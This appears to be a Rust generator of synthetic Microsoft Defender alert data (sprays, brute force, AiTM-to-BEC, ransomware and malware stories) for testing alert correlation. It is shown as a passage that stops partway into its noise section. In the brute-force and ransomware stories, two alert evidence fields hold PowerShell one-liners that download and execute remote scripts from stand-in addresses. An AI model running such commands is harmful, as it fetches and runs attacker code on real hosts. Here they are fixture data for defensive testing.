//! Harbourline Foods: the second, independent ground truth for correlation quality (issue 12),
//! specified in `docs/ground-truth.md` ("The second ground truth") before any rule was changed
//! for it. It shares no story, table or constraint with the Kestrel Ridge generator in `lib.rs`;
//! only the Graph alerts v2 page writer is common.
//!
//! What it has that the first tenant lacks: one alert per targeted account in password sprays
//! (10–100 accounts) and brute force (10–40), per-product identity views (Defender for Endpoint
//! names a user by account, domain and SID; Entra ID Protection and Defender for Cloud Apps by
//! UPN and object id; Defender for Identity by SID and UPN, and hosts by their upper-case NetBIOS
//! name only), infrastructure on most days of the span (the proxy's egress address, the domain
//! controllers, SYSTEM, Exchange Online, the stock PowerShell hash), victims and attacker
//! addresses reused weeks later in unrelated stories, and the same device infected again 60 days
//! later (two incidents). The span is a parameter: a week, a quarter or three years.
//!
//! Deterministic: the same config gives byte-identical output (ChaCha8, no clock, no hash-map
//! order). The `story` label of each alert is never written into its JSON.

use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::rngs::ChaCha8Rng;
use rand::{RngExt, SeedableRng};
use serde_json::{json, Value};

// The first generator's text helpers: SHA-256 as hex, Graph's 100-ns timestamps.
use crate::{digest, ts, GeneratedAlert};

const DOMAIN: &str = "harbourline.example";
const NETBIOS: &str = "HARBOUR";
const AD_DNS: &str = "corp.harbourline.example";
const PROXY_IP: &str = "198.51.100.20";
const EXO: (u64, &str) = (20893, "Microsoft Exchange Online");
const DCS: [&str; 2] = ["HLDC01", "HLDC02"];
const USERS_PER_UNIT: usize = 120;
const WORKSTATIONS_PER_UNIT: usize = 110;
const SERVER_ROLES: [&str; 6] = ["FS", "APP", "SQL", "BKP", "RDS", "PRN"];
/// About this many alerts per business unit (stories and noise).
pub const ALERTS_PER_UNIT: usize = 300;

#[rustfmt::skip]
const FIRST: [&str; 24] = ["Aisha", "Bjorn", "Chloe", "Dmitri", "Elif", "Farid", "Greta", "Hugo", "Ines", "Jonas",
    "Kofi", "Leila", "Mateo", "Nadia", "Oskar", "Priya", "Rafael", "Sofia", "Tomas", "Uma", "Viktor", "Wen", "Xavi", "Zara"];
#[rustfmt::skip]
const LAST: [&str; 24] = ["Okafor", "Lindqvist", "Moreau", "Petrov", "Yilmaz", "Haddad", "Novak", "Laurent", "Costa",
    "Berg", "Mensah", "Rahimi", "Garcia", "Kowalski", "Nilsen", "Sharma", "Alves", "Rossi", "Horvat", "Iyer",
    "Santos", "Chen", "Ferrer", "Ibrahim"];
/// Attacker addresses are drawn from small pools, so the same address returns in other units'
/// stories weeks later (kept 30 days apart).
const ATTACKER_NETS: [&str; 4] = ["192.0.2.", "203.0.113.", "2001:db8:7::", "2001:db8:9::"];
const ATTACKER_CC: [&str; 6] = ["RU", "NG", "VN", "BR", "CN", "KP"];
#[rustfmt::skip]
const TROJANS: [(&str, &str); 6] = [("Trojan:Win32/Emotet.RPX!MTB", "invoice_2291.doc.exe"),
    ("Trojan:Win32/Qakbot.PD!MTB", "scan_0457.js"), ("Trojan:Win32/IcedID.MK!MTB", "contract_signed.iso"),
    ("Trojan:Win32/AgentTesla.RK!MTB", "payment_copy.exe"), ("Backdoor:Win32/Remcos.GA!MTB", "rfq_list.scr"),
    ("Trojan:Win32/Formbook.AZ!MTB", "shipping_docs.exe")];

/// The product behind an alert, with the fields Graph writes for it.
#[derive(Clone, Copy)]
enum Product {
    Mde,
    Av,
    Idp,
    Mdca,
    Mdi,
    Mdo,
    Xdr,
}

impl Product {
    fn service(self) -> &'static str {
        match self {
            Product::Mde | Product::Av => "microsoftDefenderForEndpoint",
            Product::Idp => "azureAdIdentityProtection",
            Product::Mdca => "microsoftDefenderForCloudApps",
            Product::Mdi => "microsoftDefenderForIdentity",
            Product::Mdo => "microsoftDefenderForOffice365",
            Product::Xdr => "microsoft365Defender",
        }
    }
    fn detection(self) -> &'static str {
        match self {
            Product::Av => "antivirus",
            Product::Mdca => "cloudAppSecurity",
            other => other.service(),
        }
    }
    fn id_prefix(self) -> &'static str {
        match self {
            Product::Mde | Product::Av | Product::Xdr => "da",
            Product::Idp => "ad",
            Product::Mdca => "ca",
            Product::Mdi => "aa",
            Product::Mdo => "fa",
        }
    }
}

/// One detection: title, product, category, severity, MITRE techniques.
type Rule = (
    &'static str,
    Product,
    &'static str,
    &'static str,
    &'static [&'static str],
);

const SPRAY: Rule = (
    "Password spray",
    Product::Idp,
    "CredentialAccess",
    "high",
    &["T1110.003"],
);
const UNFAMILIAR: Rule = (
    "Unfamiliar sign-in properties",
    Product::Idp,
    "InitialAccess",
    "medium",
    &["T1078.004"],
);
const ATYPICAL: Rule = (
    "Atypical travel",
    Product::Idp,
    "InitialAccess",
    "medium",
    &["T1078.004"],
);
const TOKEN: Rule = (
    "Anomalous Token",
    Product::Idp,
    "CredentialAccess",
    "medium",
    &["T1528"],
);
const INBOX_RULE: Rule = (
    "Suspicious inbox manipulation rule",
    Product::Mdca,
    "Persistence",
    "medium",
    &["T1564.008"],
);
const BEC: Rule = (
    "BEC financial fraud",
    Product::Xdr,
    "Exfiltration",
    "high",
    &["T1534"],
);
const BRUTE: Rule = (
    "Suspected Brute Force attack (Kerberos, NTLM)",
    Product::Mdi,
    "CredentialAccess",
    "medium",
    &["T1110.001"],
);
const PS: Rule = (
    "Suspicious PowerShell command line",
    Product::Mde,
    "Execution",
    "medium",
    &["T1059.001"],
);
const ZAP_URL: Rule = (
    "Email messages containing malicious URL removed after delivery",
    Product::Mdo,
    "InitialAccess",
    "informational",
    &["T1566.002"],
);
const CLICK: Rule = (
    "A potentially malicious URL click was detected",
    Product::Mdo,
    "InitialAccess",
    "high",
    &["T1566.002"],
);
const LSASS: Rule = (
    "Suspicious access to LSASS service",
    Product::Mde,
    "CredentialAccess",
    "high",
    &["T1003.001"],
);
const OPTH: Rule = (
    "Suspected overpass-the-hash attack (Kerberos)",
    Product::Mdi,
    "LateralMovement",
    "high",
    &["T1550.002"],
);
const PSEXEC: Rule = (
    "PsExec launched a command on a remote device",
    Product::Mde,
    "LateralMovement",
    "medium",
    &["T1021.002"],
);
const BACKUPS: Rule = (
    "File backups were deleted",
    Product::Mde,
    "Impact",
    "high",
    &["T1490"],
);
const RANSOM: Rule = (
    "Ransomware behavior detected in the file system",
    Product::Mde,
    "Ransomware",
    "high",
    &["T1486"],
);
const MALWARE: Rule = (
    "Malware was detected",
    Product::Av,
    "Malware",
    "medium",
    &[],
);
const INJECTION: Rule = (
    "Suspicious process injection observed",
    Product::Mde,
    "DefenseEvasion",
    "medium",
    &["T1055"],
);
const C2: Rule = (
    "Suspicious connection to a command-and-control server",
    Product::Mde,
    "CommandAndControl",
    "high",
    &["T1071.001"],
);
// Noise only.
const IMPOSSIBLE: Rule = (
    "Impossible travel activity",
    Product::Mdca,
    "InitialAccess",
    "medium",
    &["T1078.004"],
);
const MASS_DL: Rule = (
    "Mass download by a single user",
    Product::Mdca,
    "Exfiltration",
    "medium",
    &["T1530"],
);
const RECON: Rule = (
    "Security principal reconnaissance (LDAP)",
    Product::Mdi,
    "Discovery",
    "medium",
    &["T1087.002"],
);
const DCSYNC: Rule = (
    "Suspected DCSync attack (replication of directory services)",
    Product::Mdi,
    "CredentialAccess",
    "medium",
    &["T1003.006"],
);
const TASK: Rule = (
    "Suspicious Task Scheduler activity",
    Product::Mde,
    "Persistence",
    "low",
    &["T1053.005"],
);
const REPORTED: Rule = (
    "Email reported by user as malware or phish",
    Product::Mdo,
    "InitialAccess",
    "informational",
    &["T1566"],
);
const PUA: Rule = (
    "Unwanted software was detected",
    Product::Av,
    "UnwantedSoftware",
    "low",
    &[],
);

/// Settings of the Harbourline generator.
#[derive(Debug, Clone, PartialEq)]
pub struct HarbourConfig {
    pub seed: u64,
    /// Business units (about 300 alerts each).
    pub units: usize,
    /// Days the export spans.
    pub days: u32,
    pub start: DateTime<Utc>,
}

impl Default for HarbourConfig {
    fn default() -> Self {
        HarbourConfig {
            seed: 20261207,
            units: 1,
            days: 90,
            start: Utc
                .with_ymd_and_hms(2026, 3, 2, 0, 0, 0)
                .single()
                .expect("valid fixed date"),
        }
    }
}

impl HarbourConfig {
    /// The config for a tenant of about `alerts` alerts.
    pub fn for_size(seed: u64, alerts: usize, days: u32) -> HarbourConfig {
        HarbourConfig {
            seed,
            units: (alerts / ALERTS_PER_UNIT).max(1),
            days: days.max(1),
            ..HarbourConfig::default()
        }
    }
}

#[derive(Clone)]
struct Person {
    display: String,
    sam: String,
    upn: String,
    sid: String,
    aad: String,
}

#[derive(Clone)]
struct Host {
    /// Upper-case NetBIOS name, as Defender for Identity writes it.
    netbios: String,
    mde: String,
}

/// Who is held when: key (`p3` a person, `w7` a workstation), from, to, and whether a story
/// (not a noise alert) holds it.
type Busy = std::collections::HashMap<String, Vec<(i64, i64, bool)>>;

/// Stories that share a person or device are at least this far apart.
const STORY_GAP: i64 = 14 * 86_400;
/// A story's people and devices see no noise this long before and after it.
const STORY_QUIET: i64 = 2 * 86_400;
/// Two noise alerts share no person or device within this long.
const NOISE_GAP: i64 = 2 * 86_400;

struct Unit {
    index: usize,
    people: Vec<Person>,
    workstations: Vec<Host>,
    servers: Vec<Host>,
}

struct Gen {
    rng: ChaCha8Rng,
    tenant: String,
    domain_sid: String,
    start: DateTime<Utc>,
    span_seconds: i64,
    system: Person,
    dcs: Vec<Host>,
    powershell: String,
    out: Vec<(DateTime<Utc>, String, GeneratedAlert)>,
    /// Attacker addresses and when they were last used (kept 30 days apart).
    attacker_used: Vec<(String, i64)>,
}

/// Generates the tenant, sorted by creation time then id.
pub fn generate_harbourline(config: &HarbourConfig) -> Vec<GeneratedAlert> {
    let mut g = Gen::new(config);
    for index in 0..config.units.max(1) {
        let unit = g.unit(index);
        g.unit_alerts(&unit);
    }
    g.out.sort_by(|a, b| (a.0, &a.1).cmp(&(b.0, &b.1)));
    g.out.into_iter().map(|(_, _, a)| a).collect()
}

fn ev(kind: &str, verdict: &str, role: &str, mut fields: Value) -> Value {
    let roles: Vec<&str> = Some(role).filter(|r| !r.is_empty()).into_iter().collect();
    if let Value::Object(m) = &mut fields {
        m.insert(
            "@odata.type".into(),
            json!(format!("#microsoft.graph.security.{kind}")),
        );
        m.insert("verdict".into(), json!(verdict));
        m.insert("remediationStatus".into(), json!("none"));
        m.insert("roles".into(), json!(roles));
        m.insert("tags".into(), json!([]));
    }
    fields
}

/// A user as Defender for Endpoint writes it: account, NetBIOS domain, SID.
fn user_mde(p: &Person, verdict: &str, role: &str) -> Value {
    ev(
        "userEvidence",
        verdict,
        role,
        json!({"userAccount": {"accountName": p.sam,
        "domainName": NETBIOS, "userSid": p.sid, "azureAdUserId": null,
        "userPrincipalName": null, "displayName": p.display}}),
    )
}

/// A user as Entra ID Protection and Defender for Cloud Apps write it: UPN and object id.
fn user_cloud(p: &Person, verdict: &str, role: &str) -> Value {
    let name = p.upn.split('@').next().unwrap_or_default();
    ev(
        "userEvidence",
        verdict,
        role,
        json!({"userAccount": {"accountName": name,
        "domainName": DOMAIN, "userSid": null, "azureAdUserId": p.aad,
        "userPrincipalName": p.upn, "displayName": p.display}}),
    )
}

/// A user as Defender for Identity writes it: account, domain, SID and UPN.
fn user_mdi(p: &Person, verdict: &str, role: &str) -> Value {
    ev(
        "userEvidence",
        verdict,
        role,
        json!({"userAccount": {"accountName": p.sam,
        "domainName": NETBIOS, "userSid": p.sid, "azureAdUserId": null,
        "userPrincipalName": p.upn, "displayName": p.display}}),
    )
}

/// A device as Defender for Endpoint writes it: device id, host name, FQDN.
fn host_mde(h: &Host, verdict: &str, role: &str) -> Value {
    let host = h.netbios.to_lowercase();
    ev(
        "deviceEvidence",
        verdict,
        role,
        json!({"mdeDeviceId": h.mde, "azureAdDeviceId": null,
        "hostName": host, "deviceDnsName": format!("{host}.{AD_DNS}"), "ntDomain": NETBIOS,
        "dnsDomain": AD_DNS, "osPlatform": "Windows11", "healthStatus": "active",
        "onboardingStatus": "onboarded", "loggedOnUsers": [], "ipInterfaces": []}),
    )
}

/// A device as Defender for Identity writes it: the upper-case NetBIOS name only.
fn host_mdi(h: &Host, verdict: &str, role: &str) -> Value {
    ev(
        "deviceEvidence",
        verdict,
        role,
        json!({"mdeDeviceId": null, "azureAdDeviceId": null,
        "hostName": h.netbios, "deviceDnsName": null, "ntDomain": null, "dnsDomain": null,
        "loggedOnUsers": [], "ipInterfaces": []}),
    )
}

fn ip_ev(ip: &str, cc: &str, verdict: &str, role: &str) -> Value {
    ev(
        "ipEvidence",
        verdict,
        role,
        json!({"ipAddress": ip, "countryLetterCode": cc}),
    )
}

fn exo() -> Value {
    ev(
        "cloudApplicationEvidence",
        "unknown",
        "",
        json!({"appId": EXO.0, "displayName": EXO.1,
        "instanceId": 0, "instanceName": EXO.1, "saasAppId": EXO.0}),
    )
}

fn mailbox_ev(p: &Person, verdict: &str) -> Value {
    ev(
        "mailboxEvidence",
        verdict,
        "",
        json!({"displayName": p.display, "primaryAddress": p.upn,
        "upn": p.upn}),
    )
}

fn url_ev(url: &str, verdict: &str) -> Value {
    ev("urlEvidence", verdict, "", json!({"url": url}))
}

fn file_ev(name: &str, sha256: &str, h: &Host, verdict: &str) -> Value {
    ev(
        "fileEvidence",
        verdict,
        "",
        json!({"mdeDeviceId": h.mde, "detectionStatus": "detected",
        "fileDetails": {"fileName": name, "filePath": r"C:\Users\Public\Downloads",
            "sha256": sha256, "sha1": &sha256[..40], "md5": null, "fileSize": 180_224}}),
    )
}

fn process_ev(image: &str, sha256: &str, cmd: &str, h: &Host, who: &Person, pid: u64) -> Value {
    ev(
        "processEvidence",
        "suspicious",
        "",
        json!({"processId": pid, "processCommandLine": cmd,
        "mdeDeviceId": h.mde, "detectionStatus": "detected",
        "imageFile": {"fileName": image, "filePath": r"C:\Windows\System32\WindowsPowerShell\v1.0",
            "sha256": sha256, "sha1": &sha256[..40]},
        "userAccount": {"accountName": who.sam, "domainName": if who.sid == "S-1-5-18" { "NT AUTHORITY" } else { NETBIOS },
            "userSid": who.sid, "azureAdUserId": null, "userPrincipalName": null}}),
    )
}

impl Gen {
    fn new(c: &HarbourConfig) -> Gen {
        let mut rng = ChaCha8Rng::seed_from_u64(c.seed ^ 0x4841_5242_4f55_5200);
        let mut hex = |n: usize| -> String {
            (0..n)
                .map(|_| format!("{:x}", rng.random_range(0..16u8)))
                .collect()
        };
        let tenant = hex(32);
        let domain_sid = format!(
            "S-1-5-21-{}-{}-{}",
            u64::from_str_radix(&hex(8), 16).unwrap_or(1),
            u64::from_str_radix(&hex(8), 16).unwrap_or(2),
            u64::from_str_radix(&hex(8), 16).unwrap_or(3)
        );
        let dcs = DCS
            .iter()
            .map(|n| Host {
                netbios: (*n).to_owned(),
                mde: hex(40),
            })
            .collect();
        let tenant = format!(
            "{}-{}-{}-{}-{}",
            &tenant[..8],
            &tenant[8..12],
            &tenant[12..16],
            &tenant[16..20],
            &tenant[20..]
        );
        Gen {
            rng,
            tenant,
            domain_sid,
            start: c.start,
            span_seconds: i64::from(c.days.max(1)) * 86_400,
            system: Person {
                display: "System".into(),
                sam: "SYSTEM".into(),
                upn: String::new(),
                sid: "S-1-5-18".into(),
                aad: String::new(),
            },
            dcs,
            powershell: digest("stock powershell.exe 10.0.22621.1"),
            out: Vec::new(),
            attacker_used: Vec::new(),
        }
    }

    fn num(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.rng.random_range(0..n)
        }
    }

    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.num(hi - lo + 1)
    }

    fn hex(&mut self, n: usize) -> String {
        (0..n).map(|_| format!("{:x}", self.num(16))).collect()
    }

    fn guid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-4{}-a{}-{}",
            &h[..8],
            &h[8..12],
            &h[13..16],
            &h[17..20],
            &h[20..]
        )
    }

    fn pick<T: Clone>(&mut self, xs: &[T]) -> T {
        xs[self.num(xs.len() as u64) as usize].clone()
    }

    fn unit(&mut self, index: usize) -> Unit {
        let mut people = Vec::with_capacity(USERS_PER_UNIT);
        for i in 0..USERS_PER_UNIT {
            let (f, l) = (FIRST[i % FIRST.len()], LAST[(i * 7 + index) % LAST.len()]);
            let sam = format!("{}{}{index:03}{}", &f[..1], l, i / FIRST.len()).to_lowercase();
            let upn = format!("{}.{}{index:03}{}@{DOMAIN}", f, l, i / FIRST.len()).to_lowercase();
            let rid = 20_000 + index * 1_000 + i;
            people.push(Person {
                display: format!("{f} {l}"),
                sam,
                upn,
                sid: format!("{}-{rid}", self.domain_sid),
                aad: self.guid(),
            });
        }
        let workstations = (0..WORKSTATIONS_PER_UNIT)
            .map(|i| Host {
                netbios: format!("HL{index:03}-WS{i:03}"),
                mde: self.hex(40),
            })
            .collect();
        let servers = SERVER_ROLES
            .iter()
            .map(|r| Host {
                netbios: format!("HL{index:03}-{r}01"),
                mde: self.hex(40),
            })
            .collect();
        Unit {
            index,
            people,
            workstations,
            servers,
        }
    }

    /// Seconds from the start at which a story may begin: a random day and working hour.
    fn story_start(&mut self, latest: i64) -> i64 {
        let days = (latest.max(86_400) / 86_400) as u64;
        (self.num(days) * 86_400 + self.range(7, 16) * 3600 + self.num(3600)) as i64
    }

    /// A story start at least [`STORY_GAP`] from the unit's other stories' starts where the span
    /// allows (a spray and a brute force may share many people), else the farthest of a few tries.
    fn story_start_apart(&mut self, latest: i64, placed: &mut Vec<i64>) -> i64 {
        let mut best = (i64::MIN, 0);
        for _ in 0..40 {
            let at = self.story_start(latest);
            let room = placed
                .iter()
                .map(|p| (p - at).abs())
                .min()
                .unwrap_or(i64::MAX);
            if room >= STORY_GAP {
                best = (room, at);
                break;
            }
            if room > best.0 {
                best = (room, at);
            }
        }
        placed.push(best.1);
        best.1
    }

    /// A workstation free for a story both at `at` and at `again`.
    fn free_twice(&mut self, busy: &Busy, n: usize, at: i64, again: i64) -> usize {
        for _ in 0..40 {
            let i = self.free_index(busy, "w", n, at, true);
            if self.free_index_is(busy, &format!("w{i}"), again) {
                return i;
            }
        }
        self.free_index(busy, "w", n, at, true)
    }

    fn free_index_is(&self, busy: &Busy, key: &str, at: i64) -> bool {
        busy.get(key).into_iter().flatten().all(|(from, to, _)| {
            let distance = if at < *from {
                from - at
            } else {
                (at - to).max(0)
            };
            distance >= STORY_GAP
        })
    }

    /// An attacker address not used in the last 30 days (from a small pool, so addresses return).
    fn attacker_ip(&mut self, at: i64) -> (String, String) {
        for _ in 0..40 {
            let net = self.pick(&ATTACKER_NETS);
            let ip = format!("{net}{}", self.range(10, 60));
            let free = self
                .attacker_used
                .iter()
                .filter(|(used, _)| *used == ip)
                .all(|(_, t)| (at - t).abs() > 30 * 86_400);
            if free {
                self.attacker_used.push((ip.clone(), at));
                let cc = self.pick(&ATTACKER_CC);
                return (ip, cc.to_owned());
            }
        }
        let ip = format!("2001:db8:ffff::{:x}", self.attacker_used.len() + 1);
        self.attacker_used.push((ip.clone(), at));
        (ip, "RU".to_owned())
    }

    /// Writes one alert at `at` seconds from the start.
    fn emit(&mut self, story: &str, rule: Rule, at: i64, evidence: Vec<Value>) {
        let (title, product, category, severity, mitre) = rule;
        let first = self.start + Duration::seconds(at.clamp(0, self.span_seconds - 1));
        let last = first + Duration::seconds(self.num(300) as i64);
        let created = last
            + Duration::seconds(self.range(60, 1800) as i64)
            + Duration::milliseconds(self.num(1000) as i64);
        let id = format!("{}{}", product.id_prefix(), self.hex(30));
        let evidence: Vec<Value> = evidence
            .into_iter()
            .map(|mut e| {
                e["createdDateTime"] = json!(ts(created));
                e
            })
            .collect();
        let alert = json!({"@odata.type": "#microsoft.graph.security.alert", "id": id,
            "providerAlertId": id, "tenantId": self.tenant, "title": title,
            "description": title, "severity": severity, "status": "new",
            "category": category, "mitreTechniques": mitre, "serviceSource": product.service(),
            "detectionSource": product.detection(), "classification": null, "determination": null,
            "assignedTo": null, "incidentId": null, "comments": [],
            "createdDateTime": ts(created), "lastUpdateDateTime": ts(created),
            "firstActivityDateTime": ts(first), "lastActivityDateTime": ts(last),
            "evidence": evidence});
        self.out.push((
            created,
            id,
            GeneratedAlert {
                story: story.to_owned(),
                alert,
            },
        ));
    }

    fn unit_alerts(&mut self, u: &Unit) {
        let label = |s: &str| format!("unit{:03}/{s}", u.index);
        // People, devices and IPs a story holds, with the seconds it holds them.
        let mut busy = Busy::new();
        let span = self.span_seconds;
        let mut n_story = 0usize;
        let mut placed: Vec<i64> = Vec::new();

        // Password spray: 10-100 accounts, one alert each within 2-3 h; 1-2 accounts used.
        let at = self.story_start_apart(span - 6 * 3600, &mut placed);
        let (ip, cc) = self.attacker_ip(at);
        let n_targets = self.range(10, 100) as usize;
        let targets = self.distinct(u.people.len(), n_targets);
        let burst = self.range(2 * 3600, 3 * 3600) as i64;
        let story = label("spray");
        for (k, &t) in targets.iter().enumerate() {
            let rule = match self.num(10) {
                0 => UNFAMILIAR,
                1 => ATYPICAL,
                _ => SPRAY,
            };
            let when = at + burst * k as i64 / n_targets as i64 + self.num(60) as i64;
            let p = &u.people[t];
            self.emit(
                &story,
                rule,
                when,
                vec![
                    user_cloud(p, "suspicious", "compromised"),
                    ip_ev(&ip, &cc, "malicious", "attacker"),
                ],
            );
        }
        let n_used = self.range(1, 2) as usize;
        for &t in targets.iter().take(n_used) {
            let p = u.people[t].clone();
            let used = at + burst + self.range(600, 3600) as i64;
            self.emit(
                &story,
                TOKEN,
                used,
                vec![
                    user_cloud(&p, "suspicious", "compromised"),
                    ip_ev(&ip, &cc, "malicious", "attacker"),
                ],
            );
            let rule_at = used + self.range(3600, 4 * 3600) as i64;
            self.emit(
                &story,
                INBOX_RULE,
                rule_at,
                vec![
                    user_cloud(&p, "suspicious", "compromised"),
                    mailbox_ev(&p, "suspicious"),
                    exo(),
                    ip_ev(&ip, &cc, "malicious", "attacker"),
                ],
            );
        }
        n_story += n_targets + 2 * n_used;
        hold(
            &mut busy,
            targets.iter().map(|&t| format!("p{t}")),
            at,
            at + 8 * 3600,
            true,
        );

        // Brute force from one workstation against 10-40 accounts (Defender for Identity).
        let at = self.story_start_apart(span - 4 * 3600, &mut placed);
        let ws = self.free_index(&busy, "w", u.workstations.len(), at, true);
        let src = u.workstations[ws].clone();
        let owner = u.people[ws % u.people.len()].clone();
        let n_targets = self.range(10, 40) as usize;
        let targets = self.free_people(&busy, u.people.len(), n_targets, at);
        let story = label("brute-force");
        let burst = self.range(3600, 2 * 3600) as i64;
        for (k, &t) in targets.iter().enumerate() {
            let when = at + burst * k as i64 / n_targets as i64;
            let dc = self.pick(&self.dcs.clone());
            self.emit(
                &story,
                BRUTE,
                when,
                vec![
                    host_mdi(&src, "suspicious", "attacker"),
                    user_mdi(&u.people[t], "suspicious", "attacked"),
                    host_mdi(&dc, "unknown", "destination"),
                ],
            );
        }
        let cmd = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.77/a.ps1')\"";
        let pid = self.range(1000, 9000);
        self.emit(
            &story,
            PS,
            at + burst + 600,
            vec![
                host_mde(&src, "suspicious", ""),
                user_mde(&owner, "suspicious", ""),
                process_ev(
                    "powershell.exe",
                    &self.powershell.clone(),
                    cmd,
                    &src,
                    &owner,
                    pid,
                ),
            ],
        );
        n_story += n_targets + 1;
        hold(
            &mut busy,
            [format!("w{ws}"), format!("p{}", ws % u.people.len())],
            at,
            at + 4 * 3600,
            true,
        );
        hold(
            &mut busy,
            targets.iter().map(|&t| format!("p{t}")),
            at,
            at + 4 * 3600,
            true,
        );

        // AiTM phishing to BEC.
        let at = self.story_start_apart(span - 2 * 86_400, &mut placed);
        let victim_i = self.free_index(&busy, "p", u.people.len(), at, true);
        let victim = u.people[victim_i].clone();
        let (ip, cc) = self.attacker_ip(at);
        let url = format!(
            "https://login-{}.sharepoint-docs.example/{}",
            self.hex(6),
            self.hex(10)
        );
        let story = label("aitm-bec");
        let recipients = self.free_people(&busy, u.people.len(), 4, at);
        let mut zap = vec![
            url_ev(&url, "malicious"),
            exo(),
            mailbox_ev(&victim, "suspicious"),
        ];
        zap.extend(
            recipients
                .iter()
                .take(2)
                .map(|&r| mailbox_ev(&u.people[r], "unknown")),
        );
        self.emit(&story, ZAP_URL, at, zap);
        self.emit(
            &story,
            CLICK,
            at + 900,
            vec![
                user_cloud(&victim, "suspicious", ""),
                url_ev(&url, "malicious"),
                mailbox_ev(&victim, "suspicious"),
                ip_ev(PROXY_IP, "NL", "unknown", ""),
            ],
        );
        let replay = at + self.range(1800, 5400) as i64;
        self.emit(
            &story,
            TOKEN,
            replay,
            vec![
                user_cloud(&victim, "suspicious", "compromised"),
                ip_ev(&ip, &cc, "malicious", "attacker"),
            ],
        );
        self.emit(
            &story,
            INBOX_RULE,
            replay + 1800,
            vec![
                user_cloud(&victim, "suspicious", "compromised"),
                mailbox_ev(&victim, "suspicious"),
                exo(),
                ip_ev(&ip, &cc, "malicious", "attacker"),
            ],
        );
        let fraud = at + self.range(20 * 3600, 40 * 3600) as i64;
        self.emit(
            &story,
            BEC,
            fraud,
            vec![
                user_cloud(&victim, "malicious", "compromised"),
                mailbox_ev(&victim, "malicious"),
                exo(),
                ip_ev(&ip, &cc, "malicious", "attacker"),
            ],
        );
        n_story += 5;
        hold(&mut busy, [format!("p{victim_i}")], at, fraud + 3600, true);
        hold(
            &mut busy,
            recipients.iter().take(2).map(|&r| format!("p{r}")),
            at,
            at + 3600,
            true,
        );

        // Human-operated ransomware: a workstation, then 2-3 servers with a stolen admin account.
        let at = self.story_start_apart(span - 14 * 3600, &mut placed);
        let ws = self.free_index(&busy, "w", u.workstations.len(), at, true);
        let first = u.workstations[ws].clone();
        let user = u.people[ws % u.people.len()].clone();
        let admin = Person {
            display: format!("Admin {}", user.display),
            sam: format!("adm-{}", user.sam),
            upn: format!("adm-{}", user.upn),
            sid: format!("{}-{}", self.domain_sid, 90_000 + u.index * 100 + ws % 100),
            aad: self.guid(),
        };
        let payload = digest(&format!("payload {} {}", u.index, self.hex(8)));
        let story = label("ransomware");
        let pid = self.range(1000, 9000);
        let cmd = "powershell.exe -ep bypass -c iwr http://192.0.2.91/s.ps1 | iex";
        self.emit(
            &story,
            PS,
            at,
            vec![
                host_mde(&first, "suspicious", ""),
                user_mde(&user, "suspicious", ""),
                process_ev(
                    "powershell.exe",
                    &self.powershell.clone(),
                    cmd,
                    &first,
                    &user,
                    pid,
                ),
            ],
        );
        self.emit(
            &story,
            LSASS,
            at + 1200,
            vec![
                host_mde(&first, "malicious", ""),
                user_mde(&user, "suspicious", ""),
                file_ev("svc.exe", &payload, &first, "malicious"),
            ],
        );
        self.emit(
            &story,
            OPTH,
            at + 2400,
            vec![
                host_mdi(&first, "suspicious", "source"),
                user_mdi(&admin, "suspicious", "compromised"),
                host_mdi(&self.dcs[0].clone(), "unknown", "destination"),
            ],
        );
        let n_servers = self.range(2, 3) as usize;
        let mut t = at + 3 * 3600;
        for s in 0..n_servers {
            let server = u.servers[s].clone();
            self.emit(
                &story,
                PSEXEC,
                t,
                vec![
                    host_mde(&server, "suspicious", ""),
                    user_mde(&admin, "suspicious", "compromised"),
                    file_ev("svc.exe", &payload, &server, "malicious"),
                ],
            );
            self.emit(
                &story,
                BACKUPS,
                t + 1800,
                vec![
                    host_mde(&server, "malicious", ""),
                    user_mde(&admin, "suspicious", "compromised"),
                ],
            );
            self.emit(
                &story,
                RANSOM,
                t + 3000,
                vec![
                    host_mde(&server, "malicious", ""),
                    user_mde(&admin, "suspicious", "compromised"),
                    file_ev("svc.exe", &payload, &server, "malicious"),
                ],
            );
            t += self.range(1800, 3600) as i64;
        }
        n_story += 3 + 3 * n_servers;
        hold(
            &mut busy,
            [format!("w{ws}"), format!("p{}", ws % u.people.len())],
            at,
            t + 3600,
            true,
        );

        // Commodity malware, and the same device infected again 60 days later.
        let at = self.story_start_apart(span - 61 * 86_400, &mut placed);
        let ws = self.free_twice(&busy, u.workstations.len(), at, at + 60 * 86_400);
        let host = u.workstations[ws].clone();
        let owner = u.people[ws % u.people.len()].clone();
        let again = at + 60 * 86_400;
        let rounds: Vec<(String, i64)> = if again < span - 3600 {
            vec![(label("malware"), at), (label("malware-again"), again)]
        } else {
            vec![(label("malware"), at)]
        };
        for (story, when) in rounds {
            let (threat, file) = self.pick(&TROJANS);
            let hash = digest(&format!("{threat} {} {when}", u.index));
            self.emit(
                &story,
                MALWARE,
                when,
                vec![
                    host_mde(&host, "malicious", ""),
                    file_ev(file, &hash, &host, "malicious"),
                    user_mde(&owner, "suspicious", ""),
                ],
            );
            self.emit(
                &story,
                INJECTION,
                when + 600,
                vec![
                    host_mde(&host, "malicious", ""),
                    file_ev(file, &hash, &host, "malicious"),
                ],
            );
            let (c2, c2cc) = self.attacker_ip(when);
            self.emit(
                &story,
                C2,
                when + 1500,
                vec![
                    host_mde(&host, "malicious", ""),
                    file_ev(file, &hash, &host, "malicious"),
                    ip_ev(&c2, &c2cc, "malicious", "destination"),
                ],
            );
            hold(
                &mut busy,
                [format!("w{ws}"), format!("p{}", ws % u.people.len())],
                when,
                when + 3600,
                true,
            );
            n_story += 3;
        }

        // Noise: the rest of the unit's alerts, over every day of the span.
        let n_noise = ALERTS_PER_UNIT
            .saturating_sub(n_story)
            .max(ALERTS_PER_UNIT / 3);
        for k in 0..n_noise {
            let story = label(&format!("noise-{k}"));
            let at = self.num(span as u64) as i64;
            let pi = self.free_index(&busy, "p", u.people.len(), at, false);
            let wi = self.free_index(&busy, "w", u.workstations.len(), at, false);
            let p = u.people[pi].clone();
            let w = u.workstations[wi].clone();
            let dc = self.pick(&self.dcs.clone());
            // A sign-in's far end: a consumer address of its own (2001:db8:f::/48).
            let far = format!("2001:db8:f:{}::{}", self.hex(4), self.hex(4));
            // About 20 % of all alerts name the proxy (about 36 % of the noise).
